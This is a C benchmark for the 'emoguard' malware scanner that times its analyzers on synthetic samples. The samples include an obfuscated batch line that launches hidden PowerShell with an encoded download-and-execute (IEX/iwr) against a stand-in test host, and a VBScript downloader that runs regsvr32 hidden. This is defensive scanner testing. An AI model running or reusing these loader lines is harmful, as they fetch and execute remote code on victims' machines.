/*
 * Payload benchmark: throughput of the payload analyzers through the whole scanner, each against
 * a floor measured in the same run on the same bytes: a scan of the same size of plain text (the
 * scanner's fixed work: copy, SHA-256, type detection, name checks, URL extraction). Inputs are
 * built here in memory:
 *   - a batch file of obfuscated command lines (carets, variable slices, -EncodedCommand),
 *   - a VBScript with Chr() strings and downloader objects,
 *   - a OneNote section holding one large embedded file,
 *   - a DLL followed by zero padding (the padding check's tail scan).
 *
 *   bench_payload [MiB]     (default 16: size of each input)
 */
#include "emoguard/emoguard.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define REPS 3

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static eg_scanner *scanner(void)
{
    eg_options opt;
    eg_options_default(&opt);
    opt.limits.max_input = 512u << 20;
    opt.limits.max_object_bytes = 512u << 20;
    opt.limits.max_total_bytes = 2048u << 20;
    opt.limits.max_cpu_ms = 600000;
    eg_scanner *sc = NULL;
    char err[256];
    if (eg_scanner_new(&opt, &sc, err, sizeof err) != EG_OK) {
        fprintf(stderr, "scanner: %s\n", err);
        exit(1);
    }
    return sc;
}

/* best of REPS, seconds */
static double time_scan(eg_scanner *sc, const uint8_t *d, size_t n, const char *name, const char **verdict)
{
    double best = 1e9;
    for (int r = 0; r < REPS; r++) {
        eg_scan_input in = {.source = name, .data = d, .len = n};
        eg_report *rep = NULL;
        double t0 = now();
        eg_scanner_scan(sc, &in, &rep);
        double t = now() - t0;
        if (t < best)
            best = t;
        if (verdict)
            *verdict = eg_verdict_str(eg_report_verdict(rep));
        eg_report_free(rep);
    }
    return best;
}

static uint8_t *repeat(const char *unit, size_t n)
{
    uint8_t *p = malloc(n);
    size_t ul = strlen(unit);
    for (size_t i = 0; i < n; i++)
        p[i] = (uint8_t)unit[i % ul];
    return p;
}

static uint8_t *make_onenote(size_t n)
{
    static const uint8_t hdr[16] = {0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
                                    0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3};
    static const uint8_t fdso[16] = {0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
                                     0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC};
    uint8_t *p = calloc(1, n);
    memcpy(p, hdr, 16);
    size_t at = 1024, flen = n - at - 36 - 64;
    memcpy(p + at, fdso, 16);
    for (int i = 0; i < 8; i++)
        p[at + 16 + i] = (uint8_t)((uint64_t)flen >> (8 * i));
    uint32_t x = 7;
    for (size_t i = 0; i < flen; i++) {
        x = x * 1103515245u + 12345u;
        p[at + 36 + i] = (uint8_t)(x >> 16);
    }
    return p;
}

static uint8_t *make_padded_dll(size_t n)
{
    uint8_t *p = calloc(1, n);
    p[0] = 'M';
    p[1] = 'Z';
    p[0x3C] = 0x80;
    memcpy(p + 0x80, "PE\0\0\x4c\x01\x01\0", 8);
    p[0x80 + 22] = 0x02;
    p[0x80 + 23] = 0x21;
    return p;
}

int main(int argc, char **argv)
{
    size_t mib = argc > 1 ? (size_t)strtoul(argv[1], NULL, 10) : 16;
    size_t n = mib << 20;
    eg_global_init();
    eg_scanner *sc = scanner();
    uint8_t *floor_text = repeat("Meeting notes for the quarterly review, see the attached agenda.\r\n", n);
    double floor = time_scan(sc, floor_text, n, "notes.txt", NULL);
    struct {
        const char *what, *name;
        uint8_t *data;
    } w[] = {
        {"batch file, obfuscated command lines", "run.bat",
         repeat("@echo off\r\nset x=abcdefghijklmnopqrstuvwxyz&& c^m^d /c %x:~15,1%owershell -w hidden -enc "
                "SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcAApAA==\r\n",
                n)},
        {"VBScript, Chr() strings and downloader", "a.vbs",
         repeat("Set x = CreateObject(\"MSXML2.XMLHTTP\"): x.Open \"GET\", \"http://\" & Chr(104) & \"a.test/\", "
                "False\r\nCreateObject(\"WScript.Shell\").Run \"regsvr32 /s a.ocx\", 0\r\n",
                n)},
        {"OneNote, one large embedded file", "a.one", make_onenote(n)},
        {"DLL followed by zero padding", "a.dll", make_padded_dll(n)},
    };
    printf("## bench_payload (%zu MiB inputs, best of %d)\n\n", mib, REPS);
    printf("floor: plain text scan %.3f s (%.0f MiB/s)\n\n", floor, (double)mib / floor);
    printf("| input | time | MiB/s | ratio to floor | verdict |\n|---|---|---|---|---|\n");
    for (size_t i = 0; i < sizeof w / sizeof w[0]; i++) {
        const char *v = "";
        double t = time_scan(sc, w[i].data, n, w[i].name, &v);
        printf("| %s | %.3f s | %.0f | %.2f | %s |\n", w[i].what, t, (double)mib / t, t / floor, v);
        free(w[i].data);
    }
    free(floor_text);
    eg_scanner_free(sc);
    eg_global_shutdown();
    return 0;
}
